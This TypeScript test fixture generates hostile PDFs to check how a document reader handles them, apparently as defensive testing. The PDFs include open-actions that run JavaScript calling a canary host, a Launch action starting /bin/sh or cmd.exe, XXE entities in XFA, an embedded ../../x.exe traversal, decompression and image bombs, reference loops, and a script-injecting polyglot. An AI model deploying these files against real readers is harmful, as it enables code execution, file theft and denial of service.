import { deflateSync } from "node:zlib";
import { writePdf } from "../support/documents/page-images.ts";
import { writeZip } from "../support/documents/zip-writer.ts";
import { type Aim, type Ending, type HostileFile, harmless, lures } from "./hostile-file.ts";
import { onePage, type RawObject, text, writeRawPdf } from "./raw-pdf.ts";

const mebibyte = 1024 * 1024;
const catalogue = (more = "") => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const stopped: readonly Ending[] = [...harmless, "document-broken", "document-over-limit"];

/** A page that says "before after", in a document that does something when it is opened. */
function opening(
  what: string,
  action: (aim: Aim) => string,
  objects: readonly RawObject[] = [],
): HostileFile {
  return {
    name: `pdf that ${what}.pdf`,
    make: (aim) =>
      writeRawPdf([
        catalogue(`/OpenAction ${action(aim)} /AA << /WC ${action(aim)} >>`),
        ...onePage(
          `/AA << /O ${action(aim)} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action(aim)} >>]`,
        ),
        ...objects,
      ]),
    endsAs: harmless,
    holds: ["before after"],
  };
}

/** XFA is XML within a PDF, and was used to attack Tika. */
function xfa(aim: Aim): Buffer {
  const form = Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE xdp [${lures(aim)
      .map((lure, at) => `<!ENTITY e${at} SYSTEM "${lure}">`)
      .join("")}]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&e0;&e1;&e2;</template></xdp:xdp>`,
  );
  return writeRawPdf([
    catalogue("/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true"),
    ...onePage(),
    { dictionary: "", stream: form },
  ]);
}

const actions: readonly HostileFile[] = [
  { name: "pdf with a form from elsewhere (XFA).pdf", make: xfa, endsAs: harmless, holds: ["before after"] },
  opening(
    "runs a script",
    ({ canary }) =>
      `<< /S /JavaScript /JS (app.launchURL\\("${canary}/js"\\); this.submitForm\\("${canary}"\\)) >>`,
  ),
  opening("starts a program", () => "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
  opening("opens an address", ({ canary }) => `<< /S /URI /URI (${canary}/uri) >>`),
  opening(
    "goes to another document",
    ({ canary }) => `<< /S /GoToR /F << /FS /URL /F (${canary}/remote.pdf) >> /D [0 /Fit] >>`,
  ),
  opening(
    "sends a form",
    ({ canary }) => `<< /S /SubmitForm /F << /FS /URL /F (${canary}/form) >> /Fields [] >>`,
  ),
  opening("takes data from a file", ({ secret }) => `<< /S /ImportData /F (${secret}) >>`),
  {
    name: "pdf with a file inside.pdf",
    make: () =>
      writeRawPdf([
        catalogue("/Names << /EmbeddedFiles << /Names [(../../x.exe) 6 0 R] >> >>"),
        ...onePage(),
        "<< /Type /Filespec /F (../../x.exe) /UF (../../x.exe) /EF << /F 7 0 R >> >>",
        { dictionary: "/Type /EmbeddedFile", stream: Buffer.from("MZ\0outside") },
      ]),
    endsAs: harmless,
    lacks: ["outside"],
  },
  {
    name: "pdf whose text lies in other files.pdf",
    make: ({ secret }) =>
      writeRawPdf([
        catalogue(),
        ...onePage("", { dictionary: `/F (${secret}) /FFilter []`, stream: text("before after") }),
      ]),
    endsAs: [...harmless, "document-broken"],
  },
];

function flateBomb(isSmall: boolean): Buffer {
  const zeros = deflateSync(Buffer.alloc((isSmall ? 64 : 1024) * mebibyte, " "), { level: 9 });
  return writeRawPdf([
    catalogue(),
    ...onePage("", { dictionary: "/Filter [/FlateDecode /FlateDecode]", stream: deflateSync(zeros) }),
  ]);
}

function imageBomb(): Buffer {
  return writeRawPdf([
    catalogue(),
    ...onePage("/Resources << /XObject << /I 6 0 R >> >>", {
      dictionary: "",
      stream: Buffer.from("595 0 0 842 0 0 cm /I Do"),
    }),
    {
      dictionary:
        "/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
      stream: deflateSync(Buffer.alloc(4 * mebibyte)),
    },
  ]);
}

const bombs: readonly HostileFile[] = [
  {
    name: "pdf of little that unpacks to 1 GB.pdf",
    make: ({ isSmall }) => flateBomb(isSmall),
    endsAs: [...stopped, "reader-out-of-memory", "reader-timed-out"],
  },
  {
    name: "pdf with a picture of 50 000 by 50 000 pixels.pdf",
    make: imageBomb,
    endsAs: [...stopped, "reader-out-of-memory", "reader-timed-out"],
  },
  {
    name: "pdf with objects in a stream that says it holds a billion.pdf",
    make: ({ isSmall }) =>
      writeRawPdf([
        catalogue(),
        ...onePage(),
        {
          dictionary: "/Type /ObjStm /N 1000000000 /First 10 /Filter /FlateDecode",
          stream: deflateSync(Buffer.alloc((isSmall ? 16 : 256) * mebibyte, "1 0 ")),
        },
      ]),
    endsAs: [...stopped, "reader-out-of-memory"],
  },
  {
    name: "pdf with a huge page.pdf",
    make: () =>
      writeRawPdf([catalogue(), ...onePage("/MediaBox [0 0 2000000000 2000000000] /UserUnit 75000")]),
    endsAs: [...stopped, "reader-out-of-memory"],
  },
  {
    name: "pdf with an empty huge page.pdf",
    make: () =>
      writeRawPdf([
        catalogue(),
        ...onePage("/MediaBox [0 0 200000 200000]", { dictionary: "", stream: Buffer.from(" ") }),
      ]),
    endsAs: stopped,
  },
  {
    name: "pdf that nests without end.pdf",
    make: () => writeRawPdf([catalogue(`/X ${"[".repeat(200_000)}`), ...onePage()]),
    endsAs: stopped,
  },
];

const loops: readonly HostileFile[] = [
  {
    name: "pdf whose pages hold themselves.pdf",
    make: () => writeRawPdf([catalogue(), "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]),
    endsAs: stopped,
  },
  {
    name: "pdf that says it has a million pages, all the same.pdf",
    make: ({ isSmall }) => {
      const kids = "3 0 R ".repeat(isSmall ? 20_000 : 1_000_000);
      const [, ...rest] = onePage();
      return writeRawPdf([
        catalogue(),
        `<< /Type /Pages /Kids [${kids}] /Count ${isSmall ? 20_000 : 1_000_000} >>`,
        ...rest,
      ]);
    },
    endsAs: [...stopped, "reader-timed-out"],
  },
  {
    name: "pdf that says it has two billion pages.pdf",
    make: () => {
      const [, ...rest] = onePage();
      return writeRawPdf([catalogue(), "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", ...rest]);
    },
    endsAs: [...stopped, "reader-timed-out"],
  },
  {
    name: "pdf whose table of objects points to itself.pdf",
    make: () => {
      const first = writeRawPdf([catalogue(), ...onePage()]);
      const at = first.lastIndexOf("xref\n0 ");
      return writeRawPdf([catalogue(), ...onePage()], { trailer: `/Prev ${at} /XRefStm ${at}` });
    },
    endsAs: stopped,
  },
  {
    name: "pdf that draws itself inside of itself.pdf",
    make: () =>
      writeRawPdf([
        catalogue(),
        ...onePage("/Resources << /XObject << /X 6 0 R >> /Font << /F 5 0 R >> >>", {
          dictionary: "",
          stream: Buffer.from("/X Do"),
        }),
        {
          dictionary:
            "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>",
          stream: Buffer.from("/X Do /X Do"),
        },
      ]),
    endsAs: [...stopped, "reader-out-of-memory", "reader-timed-out"],
  },
  {
    name: "pdf whose lengths are less than nothing.pdf",
    make: () =>
      writeRawPdf([catalogue(), ...onePage("", { dictionary: "/Length -1 ", stream: text("before after") })]),
    endsAs: stopped,
  },
  {
    name: "pdf whose lengths are named by themselves.pdf",
    make: () =>
      writeRawPdf([
        catalogue(),
        ...onePage("", { dictionary: "/Length 4 0 R ", stream: text("before after") }),
      ]),
    endsAs: stopped,
  },
];

const damaged: readonly HostileFile[] = [
  {
    name: "pdf with a password.pdf",
    make: () =>
      writePdf({
        pages: ["secret text"],
        finish: (document) => document.encrypt({ userPassword: "one", ownerPassword: "two" }),
      }),
    endsAs: ["document-encrypted"],
  },
  {
    name: "pdf with an unknown kind of encryption.pdf",
    make: () =>
      writeRawPdf([catalogue(), ...onePage(), "<< /Filter /Unknown /V 99 /R 99 /O () /U () /P -1 >>"], {
        trailer: "/Encrypt 6 0 R",
      }),
    endsAs: ["document-encrypted", "document-broken"],
  },
  {
    name: "pdf cut in the middle.pdf",
    make: async () => {
      const pdf = await writePdf({ pages: ["before after"] });
      return pdf.subarray(0, pdf.length / 2);
    },
    endsAs: [...harmless, "document-broken"],
  },
  {
    name: "pdf of nothing but its first line.pdf",
    make: () => Buffer.from("%PDF-1.7\n"),
    endsAs: ["document-broken"],
  },
  {
    name: "pdf of noise.pdf",
    make: () => Buffer.concat([Buffer.from("%PDF-1.7\n"), noise(100_000)]),
    endsAs: ["document-broken"],
  },
  {
    name: "pdf that is also a page.pdf",
    make: ({ canary }) =>
      writeRawPdf([catalogue(), ...onePage()], {
        prefix: `<html><script src="${canary}/x"></script><!--\n`,
      }),
    endsAs: [...harmless, "document-broken"],
    lacks: ["<script"],
  },
  {
    name: "pdf that is also an archive.pdf",
    make: () =>
      writeZip([{ name: "word/document.xml", data: "<in-the-archive/>" }], {
        prefix: writeRawPdf([catalogue(), ...onePage()]),
      }),
    endsAs: [...harmless, "document-broken"],
  },
  {
    name: "pdf with a font that calculates.pdf",
    make: () => {
      const objects = [...onePage()];
      objects[3] =
        "<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (0\\); fetch('http://x.example'\\)] /Encoding /WinAnsiEncoding /FirstChar -5 /LastChar 99999999 /Widths [1] >>";
      return writeRawPdf([catalogue(), ...objects]);
    },
    endsAs: stopped,
  },
];

function noise(length: number): Buffer {
  let state = 1;
  return Buffer.from(
    Uint8Array.from({ length }, () => {
      state = (Math.imul(state, 1103515245) + 12345) >>> 0;
      return state >>> 16;
    }),
  );
}

export const hostilePdfs: readonly HostileFile[] = [...actions, ...bombs, ...loops, ...damaged];
